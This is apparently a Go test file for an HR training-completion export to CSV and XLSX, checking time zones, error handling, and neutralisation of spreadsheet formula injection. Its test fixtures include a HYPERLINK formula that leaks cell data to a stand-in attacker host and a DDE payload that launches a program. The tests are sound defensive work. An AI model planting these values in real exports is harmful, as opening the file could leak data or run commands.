package export

import (
	"archive/zip"
	"bytes"
	"encoding/csv"
	"errors"
	"flag"
	"fmt"
	"io"
	"iter"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"
	"github.com/xuri/excelize/v2"
	"pgregory.net/rapid"

	"palestra/internal/csvcell"
)

var update = flag.Bool("update", false, "rewrite golden files")

func rome(t testing.TB) *time.Location {
	t.Helper()
	z, err := time.LoadLocation("Europe/Rome")
	if err != nil {
		t.Fatal(err)
	}
	return z
}

func info(t testing.TB) Info {
	return Info{Organisation: "Comune di Valdora", OrganisationID: "org-valdora", Zone: rome(t), AsOf: time.Date(2026, 11, 2, 10, 0, 0, 0, time.UTC)}
}

func ada() Row {
	score := int64(8750)
	return Row{
		Record: "record-1", Entry: 1, Name: "Ada Brambilla", Email: "ada@valdora.example", Unit: "Anagrafe", Course: "course-open-data",
		CourseTitle: "Open data for clerks", CourseVersion: 2, Rule: "watch-and-quiz/1", State: Completed,
		EnrolledAt: time.Date(2026, 3, 1, 8, 0, 0, 0, time.UTC), CompletedAt: time.Date(2026, 3, 29, 21, 59, 59, 250_000_000, time.UTC), Due: "2026-03-29", DueEnds: time.Date(2026, 3, 29, 22, 0, 0, 0, time.UTC),
		Minutes: 48, Score: &score, Via: "hr", Account: "5f0c2a1e-account", Statements: []string{"statement-a", "statement-b"}, EvidenceHash: strings.Repeat("ab", 32),
		Certificate: "https://learn.valdora.example/c/K7Q2",
	}
}

// cast are rows that are not simple.
func cast() []Row {
	late := ada()
	late.Record, late.Entry, late.Name, late.Unit = "record-2", 2, "Žofie Nováková-Ødegård", "Ufficio \"Tributi\"; piano 2, stanza 4"
	late.CompletedAt = late.CompletedAt.Add(time.Second) // midnight in Rome, on the night when the clocks changed
	zero := int64(5)
	late.Score = &zero

	hostile := ada()
	hostile.Record, hostile.Entry, hostile.State, hostile.Reason = "record-3", 7, Corrected, "The quiz counted twice.\r\nSee the note,\n\"page 2\""
	hostile.Name, hostile.Email, hostile.Unit = `=HYPERLINK("http://evil.example?"&A1,"Ada")`, "+393331234567", "@SUM(1+1)*cmd|' /C calc'!A0"
	hostile.CourseTitle, hostile.Via, hostile.Due, hostile.DueEnds, hostile.Score = "'-2+3 is an apostrophe", "\t=1", "", time.Time{}, nil

	gone := ada()
	gone.Record, gone.Entry, gone.State, gone.Reason, gone.Left = "record-4", 9, Withdrawn, "Entered for the wrong person.", true
	gone.Name, gone.Email, gone.Unit, gone.EnrolledAt, gone.Statements, gone.Minutes = "0012", " 1-2 ", "", time.Time{}, nil, 0
	gone.CourseTitle = "a\x00b\xffc 数据 😀"
	gone.CompletedAt = time.Date(2026, 10, 25, 0, 30, 0, 0, time.UTC) // 02:30, which this night has twice
	return []Row{ada(), late, hostile, gone}
}

func each(rows ...Row) iter.Seq2[Row, error] {
	return func(yield func(Row, error) bool) {
		for _, r := range rows {
			if !yield(r, nil) {
				return
			}
		}
	}
}

func golden(t *testing.T, name string, got []byte) {
	t.Helper()
	path := filepath.Join("testdata", name)
	if *update {
		if err := os.WriteFile(path, got, 0o644); err != nil {
			t.Fatal(err)
		}
	}
	want, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	if d := cmp.Diff(string(want), string(got)); d != "" {
		t.Errorf("%s differs: the columns of %s are frozen (-want +got):\n%s", name, Format, d)
	}
}

func TestGolden(t *testing.T) {
	var b bytes.Buffer
	if n, err := CSV(&b, info(t), each(cast()...)); n != 4 || err != nil {
		t.Fatalf("CSV: got %d %v", n, err)
	}
	golden(t, "hr-completions-1.csv", b.Bytes())
	b.Reset()
	if n, err := ExcelCSV(&b, info(t), each(cast()...)); n != 4 || err != nil {
		t.Fatalf("ExcelCSV: got %d %v", n, err)
	}
	golden(t, "hr-completions-1.excel.csv", b.Bytes())
	b.Reset()
	if n, err := XLSX(&b, info(t), each(cast()...)); n != 4 || err != nil {
		t.Fatalf("XLSX: got %d %v", n, err)
	}
	golden(t, "hr-completions-1.xlsx.txt", dump(t, b.Bytes()))
}

// dump writes a workbook cell by cell: name, type, raw value and what is shown.
func dump(t *testing.T, b []byte) []byte {
	t.Helper()
	f, err := excelize.OpenReader(bytes.NewReader(b))
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	var out bytes.Buffer
	for _, sheet := range f.GetSheetList() {
		rows, err := f.GetRows(sheet)
		if err != nil {
			t.Fatal(err)
		}
		for y, row := range rows {
			for x := range row {
				name, err := excelize.CoordinatesToCellName(x+1, y+1)
				if err != nil {
					t.Fatal(err)
				}
				kind, e1 := f.GetCellType(sheet, name)
				raw, e2 := f.GetCellValue(sheet, name, excelize.Options{RawCellValue: true})
				shown, e3 := f.GetCellValue(sheet, name)
				formula, e4 := f.GetCellFormula(sheet, name)
				if err := errors.Join(e1, e2, e3, e4); err != nil || formula != "" {
					t.Fatalf("%s: %v, formula %q", name, err, formula)
				}
				what := map[excelize.CellType]string{excelize.CellTypeInlineString: "text", excelize.CellTypeSharedString: "text", excelize.CellTypeUnset: "number", excelize.CellTypeNumber: "number", excelize.CellTypeBool: "bool"}[kind]
				if raw != "" {
					fmt.Fprintf(&out, "%s!%s %s %q %q\n", sheet, name, what, raw, shown)
				}
			}
		}
	}
	return out.Bytes()
}

func parse(t testing.TB, b []byte, comma rune) [][]string {
	t.Helper()
	r := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(b, []byte("\ufeff"))))
	r.Comma = comma
	cells, err := r.ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	return cells
}

func column(name string) int {
	return slices.IndexFunc(Columns(), func(c Column[Row]) bool { return c.Name == name })
}

// TestMeaning reads the golden rows as an HR officer would.
func TestMeaning(t *testing.T) {
	var b bytes.Buffer
	if _, err := CSV(&b, info(t), each(cast()...)); err != nil {
		t.Fatal(err)
	}
	cells := parse(t, b.Bytes(), ',')
	if len(cells) != 5 {
		t.Fatalf("got %d lines, want a header and 4 rows", len(cells))
	}
	for _, c := range []struct {
		row        int
		name, want string
	}{
		{1, "completed_at", "2026-03-29T23:59:59+02:00"},
		{1, "completed_at_utc", "2026-03-29T21:59:59.250Z"},
		{1, "enrolled_at", "2026-03-01T09:00:00+01:00"},
		{1, "on_time", "yes"},
		{2, "completed_at", "2026-03-30T00:00:00+02:00"},
		{2, "on_time", "no"},
		{2, "score_percent", "0.05"},
		{3, "on_time", ""},
		{3, "score_percent", ""},
		{3, "person_name", `'=HYPERLINK("http://evil.example?"&A1,"Ada")`},
		{3, "email", "'+393331234567"},
		{3, "course_title", "''-2+3 is an apostrophe"},
		{4, "completed_at", "2026-10-25T02:30:00+02:00"},
		{4, "on_time", ""},
		{4, "member_state", "left"},
		{4, "email", " 1-2 "},
		{4, "course_title", "a\ufffdb\ufffdc 数据 😀"},
		{4, "format", "hr-completions/1"},
	} {
		if got := cells[c.row][column(c.name)]; got != c.want {
			t.Errorf("row %d, %s: got %q, want %q", c.row, c.name, got, c.want)
		}
	}
}

func TestErrors(t *testing.T) {
	broken := errors.New("store")
	bad := func(change func(*Row)) iter.Seq2[Row, error] { r := ada(); change(&r); return each(ada(), r) }
	type writer func(io.Writer, Info, iter.Seq2[Row, error]) (int64, error)
	for name, write := range map[string]writer{"CSV": CSV, "ExcelCSV": ExcelCSV, "XLSX": XLSX} {
		t.Run(name, func(t *testing.T) {
			for _, c := range []struct {
				name string
				rows iter.Seq2[Row, error]
				want string
			}{
				{"the rows break", func(yield func(Row, error) bool) { _ = yield(ada(), nil) && yield(Row{}, broken) }, "store"},
				{"no id", bad(func(r *Row) { r.Record = "" }), "lacks"},
				{"no entry", bad(func(r *Row) { r.Entry = 0 }), "lacks"},
				{"no time", bad(func(r *Row) { r.CompletedAt = time.Time{} }), "lacks"},
				{"a day that is none", bad(func(r *Row) { r.Due = "2026-02-30" }), "due date"},
				{"a day that never ends", bad(func(r *Row) { r.DueEnds = time.Time{} }), "never ends"},
				{"no such state", bad(func(r *Row) { r.State = "lost" }), "state"},
			} {
				if n, err := write(io.Discard, info(t), c.rows); n != 1 || err == nil || !strings.Contains(err.Error(), c.want) {
					t.Errorf("%s: got %d %v, want 1 row and an error about %q", c.name, n, err, c.want)
				}
			}
			if _, err := write(io.Discard, Info{}, each()); err == nil {
				t.Error("an export without zone is written")
			}
			if _, err := write(failing{broken}, info(t), each(ada())); !errors.Is(err, broken) {
				t.Errorf("got %v, want %v", err, broken)
			}
			var b bytes.Buffer
			if n, err := write(&b, info(t), each()); n != 0 || err != nil || b.Len() == 0 {
				t.Errorf("no rows: got %d %v, want a header", n, err)
			}
		})
	}
}

type failing struct{ err error }

func (f failing) Write([]byte) (int, error) { return 0, f.err }

func TestSheets(t *testing.T) {
	var b bytes.Buffer
	var rows []Row
	for i := range 25 {
		r := ada()
		r.Record = fmt.Sprintf("record-%d", i)
		rows = append(rows, r)
	}
	if n, err := writeXLSX(&b, completions(), info(t), each(rows...), 11); n != 25 || err != nil {
		t.Fatalf("got %d %v", n, err)
	}
	f, err := excelize.OpenReader(&b)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	if d := cmp.Diff([]string{"completions", "completions 2", "completions 3", "about"}, f.GetSheetList()); d != "" {
		t.Errorf("sheets (-want +got):\n%s", d)
	}
	for sheet, want := range map[string]string{"completions": "record-9", "completions 2": "record-19", "completions 3": ""} {
		head, err1 := f.GetCellValue(sheet, "A1")
		last, err2 := f.GetCellValue(sheet, "A11")
		if err := errors.Join(err1, err2); err != nil || head != "record_id" || last != want {
			t.Errorf("%s: got %q … %q %v, want record_id … %q", sheet, head, last, err, want)
		}
	}
}

func TestLongLists(t *testing.T) {
	r := ada()
	r.Statements = nil
	for i := range 2000 {
		r.Statements = append(r.Statements, fmt.Sprintf("%036d", i))
	}
	var b bytes.Buffer
	if _, err := CSV(&b, info(t), each(r)); err != nil {
		t.Fatal(err)
	}
	if got := strings.Fields(parse(t, b.Bytes(), ',')[1][column("statement_ids")]); !slices.Equal(got, r.Statements) {
		t.Errorf("CSV: got %d ids, want all", len(got))
	}
	b.Reset()
	if _, err := ExcelCSV(&b, info(t), each(r)); err != nil {
		t.Fatal(err)
	}
	cell := parse(t, b.Bytes(), ';')[1][column("statement_ids")]
	if got := strings.Fields(cell); len(cell) > maxCell || got[len(got)-1] != fmt.Sprintf("+%d", 2000-len(got)+1) {
		t.Errorf("ExcelCSV: got %d characters ending in %q, want what fits and the number of the rest", len(cell), got[len(got)-1])
	}
}

// TestDocuments holds docs/exports.md against the columns.
func TestDocuments(t *testing.T) {
	b, err := os.ReadFile("../../docs/exports.md")
	if err != nil {
		t.Fatal(err)
	}
	completions, followers, found := strings.Cut(string(b), "`"+FollowersFormat+"`\n")
	if !found {
		t.Fatalf("docs/exports.md does not describe %s", FollowersFormat)
	}
	documented(t, completions, Columns())
	documented(t, followers, FollowerColumns())
}

// documented compares the columns of a table with those that are written. A row may name several of one type.
func documented[R any](t *testing.T, text string, columns []Column[R]) {
	t.Helper()
	var got, want []string
	for line := range strings.SplitSeq(text, "\n") {
		cells := strings.Split(line, "|")
		if !strings.HasPrefix(line, "| `") || len(cells) <= 4 {
			continue
		}
		for name := range strings.SplitSeq(cells[1], ",") {
			got = append(got, strings.TrimSpace(name)+" "+strings.TrimSpace(cells[2]))
		}
	}
	for _, c := range columns {
		want = append(want, "`"+c.Name+"` "+string(c.Type))
	}
	if d := cmp.Diff(want, got); d != "" {
		t.Errorf("docs/exports.md differs from the columns (-columns +document):\n%s", d)
	}
}

func checkText(t interface {
	Helper()
	Fatalf(string, ...any)
}, i Info, s string,
) {
	t.Helper()
	r := ada()
	r.Name = s
	var plain, excel bytes.Buffer
	if _, err := CSV(&plain, i, each(r)); err != nil {
		t.Fatalf("CSV(%q): %v", s, err)
	}
	if _, err := ExcelCSV(&excel, i, each(r)); err != nil {
		t.Fatalf("ExcelCSV(%q): %v", s, err)
	}
	for comma, b := range map[rune][]byte{',': plain.Bytes(), ';': bytes.TrimPrefix(excel.Bytes(), []byte("\ufeff"))} {
		in := csv.NewReader(bytes.NewReader(b))
		in.Comma = comma
		cells, err := in.ReadAll()
		if err != nil || len(cells) != 2 {
			t.Fatalf("%q: got %d lines, %v", s, len(cells), err)
		}
		cell := cells[1][column("person_name")]
		if cell != "" && strings.ContainsRune("=+-@\t\r\n＝＋－＠", []rune(cell)[0]) {
			t.Fatalf("%q: the cell %q would be a formula", s, cell)
		}
		norm := strings.NewReplacer("\r", "") // Go's reader loses those before a line feed within quotes
		if got, want := norm.Replace(Plain(cell)), norm.Replace(csvcell.Clean(s)); got != want {
			t.Fatalf("%q: got %q back, want %q", s, got, want)
		}
		if got, want := cells[1][column("email")], ada().Email; got != want {
			t.Fatalf("%q moved the next cell: got %q, want %q", s, got, want)
		}
	}
}

func FuzzCSV(f *testing.F) {
	for _, s := range []string{"", "=1+1", "'", "''", "'=1", "-", "a\r\nb", "\r", "\"", "a;b,c\t", "\ufeff=1", "＝1", "\x00\xff", " =1"} {
		f.Add(s)
	}
	i := info(f)
	f.Fuzz(func(t *testing.T, s string) { checkText(t, i, s) })
}

func TestAnyText(t *testing.T) {
	i := info(t)
	rapid.Check(t, func(t *rapid.T) {
		checkText(t, i, rapid.StringOf(rapid.OneOf(rapid.SampledFrom([]rune("=+-@'\"\t\r\n,; a")), rapid.Rune())).Draw(t, "text"))
	})
}

// TestXLSXTexts has every hostile text back as it was: typed, not defused.
func TestXLSXTexts(t *testing.T) {
	texts := []string{"=1+1", "+1", "-1", "@a", "\t=1", "'quoted", " spaces ", "1e5", "0012", "<b>&amp;", "_x0041_", "line\nline", "2026-01-01", "TRUE"}
	var rows []Row
	for _, s := range texts {
		r := ada()
		r.Name = s
		rows = append(rows, r)
	}
	var b bytes.Buffer
	if _, err := XLSX(&b, info(t), each(rows...)); err != nil {
		t.Fatal(err)
	}
	f, err := excelize.OpenReader(bytes.NewReader(b.Bytes()))
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	for i, want := range texts {
		cell := fmt.Sprintf("C%d", i+2)
		kind, err1 := f.GetCellType("completions", cell)
		got, err2 := f.GetCellValue("completions", cell)
		if err := errors.Join(err1, err2); err != nil || got != want || kind != excelize.CellTypeInlineString {
			t.Errorf("%s: got %q of type %v, %v; want the text %q", cell, got, kind, err, want)
		}
	}
	z, err := zip.NewReader(bytes.NewReader(b.Bytes()), int64(b.Len()))
	if err != nil {
		t.Fatal(err)
	}
	for _, file := range z.File {
		r, err := file.Open()
		if err != nil {
			t.Fatal(err)
		}
		data, err := io.ReadAll(r)
		if err != nil {
			t.Fatal(err)
		}
		if bytes.Contains(data, []byte("<f>")) || bytes.Contains(data, []byte("<f ")) {
			t.Errorf("%s holds a formula", file.Name)
		}
	}
}

// TestTemporaryFile holds the place and the end of the one file that XLSX needs.
func TestTemporaryFile(t *testing.T) {
	i := info(t)
	i.Temp = t.TempDir()
	seen := 0
	rows := func(yield func(Row, error) bool) {
		for r := range million(12_000) {
			if !yield(r, nil) {
				return
			}
		}
		left, err := os.ReadDir(i.Temp)
		if err != nil {
			t.Error(err)
		}
		seen = len(left)
	}
	if _, err := XLSX(io.Discard, i, rows); err != nil {
		t.Fatal(err)
	}
	left, err := os.ReadDir(i.Temp)
	if seen == 0 || len(left) > 0 || err != nil {
		t.Errorf("got %d files while writing and %d afterwards (%v), want one and none", seen, len(left), err)
	}
}

// TestNoTemporaryFile refuses to keep a workbook in memory.
func TestNoTemporaryFile(t *testing.T) {
	i := info(t)
	i.Temp = filepath.Join(t.TempDir(), "missing")
	if _, err := XLSX(io.Discard, i, million(1)); !errors.Is(err, os.ErrNotExist) {
		t.Errorf("got error %v, want that there is no folder", err)
	}
}

func million(n int) iter.Seq2[Row, error] {
	return func(yield func(Row, error) bool) {
		r := ada()
		for i := range n {
			r.Entry = int64(i + 1)
			if !yield(r, nil) {
				return
			}
		}
	}
}

func benchmark(b *testing.B, write func(io.Writer, Info, iter.Seq2[Row, error]) (int64, error)) {
	for _, n := range []int{1_000, 100_000, 1_000_000} {
		b.Run(fmt.Sprintf("rows=%d", n), func(b *testing.B) {
			i := info(b)
			b.ReportAllocs()
			for b.Loop() {
				if got, err := write(io.Discard, i, million(n)); err != nil || got != int64(n) {
					b.Fatal(got, err)
				}
			}
			b.ReportMetric(float64(b.Elapsed().Nanoseconds())/float64(b.N)/float64(n), "ns/row")
		})
	}
}

func BenchmarkCSV(b *testing.B)      { benchmark(b, CSV) }
func BenchmarkExcelCSV(b *testing.B) { benchmark(b, ExcelCSV) }
func BenchmarkXLSX(b *testing.B)     { benchmark(b, XLSX) }

// Whoever was in time by the clocks by which the day was said stays in time when her town's clocks are set to others.
func TestInTimeByTheClocksOfTheDay(t *testing.T) {
	t.Parallel()
	for zone, want := range map[string][]string{"Europe/Rome": {"yes", "no"}, "Europe/Helsinki": {"yes", "no"}, "Europe/Lisbon": {"yes", "no"}} {
		i := info(t)
		var err error
		if i.Zone, err = time.LoadLocation(zone); err != nil {
			t.Fatal(err)
		}
		var b bytes.Buffer
		if _, err := CSV(&b, i, each(cast()[:2]...)); err != nil {
			t.Fatal(err)
		}
		cells := parse(t, b.Bytes(), ',')
		if got := []string{cells[1][column("on_time")], cells[2][column("on_time")]}; !slices.Equal(got, want) {
			t.Errorf("%s: got %q, want %q", zone, got, want)
		}
		inTime := FollowerColumns()[slices.IndexFunc(FollowerColumns(), func(c Column[Follower]) bool { return c.Name == "on_time" })]
		for k, r := range cast()[:2] {
			f := Follower{Enrolment: r.Record, BegunAt: r.EnrolledAt, State: Completed, CompletedAt: r.CompletedAt, Due: r.Due, DueEnds: r.DueEnds}
			if err := f.check(); err != nil {
				t.Error(err)
			}
			if got := inTime.cell(&f, &i); got.n != yesNo(want[k] == "yes").n {
				t.Errorf("%s: follower %d is in time: %d, want %s", zone, k, got.n, want[k])
			}
		}
	}
}
